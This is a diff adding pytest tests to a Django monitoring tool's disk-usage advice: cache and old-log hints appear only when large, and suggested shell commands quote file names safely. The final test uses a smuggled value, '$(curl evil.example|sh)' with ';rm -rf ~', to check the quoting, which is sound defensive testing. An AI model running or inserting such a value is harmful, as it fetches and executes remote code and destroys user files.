@@ -5,9 +5,9 @@ from django.utils import timezone
 
 from tests.intelligence.conftest import snapshot
 from vigil.alerts.models import Incident
-from vigil.intelligence import similarity
+from vigil.intelligence import disk, similarity
 from vigil.intelligence.providers.base import AnalysisContext
-from vigil.intelligence.providers.local import LocalProvider
+from vigil.intelligence.providers.local import LocalProvider, disk_report_findings
 
 pytestmark = pytest.mark.django_db
 
@@ -142,3 +142,44 @@ def test_a_local_disk_check_on_a_path_outside_the_roots_scans_every_root(tmp_pat
     [fills] = [r for r in result.recommendations if r.title.startswith("See what fills")]
     assert fills.priority == "critical"
     assert str(root.resolve() / "huge.log") in fills.detail
+
+
+def _report(**fields):
+    base = {"root": "/var/log", "total": 100, "used": 90, "free": 10, "percent_used": 90.0}
+    return disk.DiskReport(**{**base, **fields})
+
+
+def test_old_logs_and_caches_are_mentioned_only_when_they_matter():
+    log = disk.Entry("/var/log/app/app.log.9.gz", 30 * 2**20, 0)
+    apt = disk.CacheHint("/var/cache/apt/archives", "APT package cache", "sudo apt-get clean")
+    big = _report(
+        old_logs=[log],
+        old_logs_bytes=30 * 2**20,
+        caches=[disk.CacheHint(apt.path, apt.label, apt.command, 2 * 2**30)],
+    )
+    small = _report(
+        old_logs=[log],
+        old_logs_bytes=2**20,
+        caches=[disk.CacheHint(apt.path, apt.label, apt.command, 2**20)],
+    )
+
+    found = {r.title: r for r in disk_report_findings(big, "high")}
+    assert found["Remove or compress old logs under /var/log"].commands == [
+        "find /var/log -xdev -type f -mtime +14 \\( -name '*.gz' -o -name '*.log.*' "
+        "-o -name '*.old' \\) -print"
+    ]
+    assert found["Trim the APT package cache (2.0 GiB)"].commands == ["sudo apt-get clean"]
+    assert disk_report_findings(small, "high") == []
+
+
+def test_hostile_names_are_quoted_in_suggested_commands():
+    hostile = "/srv/$(curl evil.example|sh)"
+    report = _report(
+        root="/srv",
+        largest_dirs=[disk.Entry(hostile, 5000)],
+        largest_files=[disk.Entry(hostile + "/x;rm -rf ~", 5000)],
+    )
+
+    [fills] = disk_report_findings(report, "high")
+
+    assert fills.commands[1] == "ls -lh '/srv/$(curl evil.example|sh)/x;rm -rf ~'"
